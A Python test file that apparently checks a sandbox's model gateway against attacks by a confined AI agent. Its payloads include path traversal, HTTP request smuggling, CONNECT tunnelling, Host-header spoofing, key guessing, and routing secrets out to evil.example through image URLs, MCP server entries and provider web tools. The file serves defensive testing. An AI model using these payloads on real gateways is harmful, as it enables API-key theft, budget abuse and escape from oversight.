"""Attacks by way of the model gateway."""

from tests.attacks.attack import attack_on
from tests.attacks.places import Places, request

PATHS = (
    "/v1/organizations/api_keys",
    "/v1/files",
    "/v1/messages/batches",
    "/v1/messages/../files",
    "/v1/messages/%2e%2e/files",
    "//v1/files",
)


@attack_on("secrets", "The gateway knows the model's paths only.")
def gateway_admin(places: Places) -> str | None:
    """Asks for keys of the organization, files and batches, which the real key may open."""
    found = [request(places, path, method) for path in PATHS for method in ("GET", "POST")]
    return " ".join(filter(None, found))


@attack_on("network", "The gateway is no proxy: it answers its own paths only.")
def gateway_as_proxy(places: Places) -> str | None:
    """Asks for http://HOST:PORT/ in absolute form."""
    return request(places, f"http://127.0.0.1:{places.ports['tcp']}/", "GET")


@attack_on("network", "The gateway passes on pictures that are in the request itself.")
def gateway_image_url(places: Places) -> str | None:
    """Lets the provider load pictures and documents from a URL that holds a secret."""
    source = {"type": "url", "url": "https://evil.example/?secret"}
    blocks = ({"type": kind, "source": source} for kind in ("image", "document"))
    said = ([{"role": "user", "content": [block]}] for block in blocks)
    return " ".join(filter(None, (request(places, body={"messages": one}) for one in said)))


@attack_on("network", "The gateway refuses a body by its announced size.")
def gateway_large_body(places: Places) -> str | None:
    """Sends more than any bead says, to fill the memory of whoever holds the key."""
    return request(places, body={"system": "x" * places.too_large})


@attack_on("network", "The gateway knows the parts of a request by name and refuses those.")
def gateway_mcp(places: Places) -> str | None:
    """Names an MCP server, and a container at the provider."""
    server = {"type": "url", "url": "https://evil.example/", "name": "x"}
    bodies = ({"mcp_servers": [server]}, {"container": "container_1"})
    return " ".join(filter(None, (request(places, body=body) for body in bodies)))


@attack_on("network", "A placeholder opens nothing after the end of its bead.")
def gateway_old_key(places: Places) -> str | None:
    """Uses what an earlier bead has left behind, to pay from its budget and use its model."""
    return request(places, x_api_key=places.old_placeholder)


@attack_on("network", "The endpoint comes from the settings; the header is not looked at.")
def gateway_other_host(places: Places) -> str | None:
    """Puts a service of the machine into the Host header."""
    found = request(places, host=f"127.0.0.1:{places.ports['tcp']}")
    return found if found and found.endswith("-tcp") else None


@attack_on("network", "The gateway answers 401 to whatever is no open bead's placeholder.")
def gateway_other_key(places: Places) -> str | None:
    """Asks the gateway with a key that looks right, and with none."""
    guesses = ("sk-ant-placeholder-" + "0" * 48, "", places.placeholder[:-1])
    return " ".join(filter(None, (request(places, x_api_key=guess) for guess in guesses)))


@attack_on("network", "A placeholder is good for its bead's models.")
def gateway_other_model(places: Places) -> str | None:
    """Asks for a dearer model than the bead's."""
    return request(places, body={"model": "claude-opus-4-1-20250805"})


KINDS = ("web_fetch_20250910", "web_search_20250305", "code_execution_20250825")


@attack_on("network", "The gateway passes on tools that run here, by name of their type.")
def gateway_server_tools(places: Places) -> str | None:
    """Lets the provider fetch an address or search for it: the request carries a secret out."""
    tools = [[{"type": kind, "name": kind[:9]}] for kind in KINDS]
    return " ".join(filter(None, (request(places, body={"tools": one}) for one in tools)))


INNER = b"0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n"


@attack_on("secrets", "The gateway refuses such heads, and writes its own to the endpoint.")
def gateway_smuggling(places: Places) -> str | None:
    """Says two lengths, so that the endpoint sees a second request with the real key."""
    return request(places, body=INNER, transfer_encoding="chunked", content_length="5")


@attack_on("network", "The gateway is no proxy: it answers its own paths only.")
def gateway_tunnel(places: Places) -> str | None:
    """Sends CONNECT HOST:PORT."""
    return request(places, f"127.0.0.1:{places.ports['tcp']}", "CONNECT")
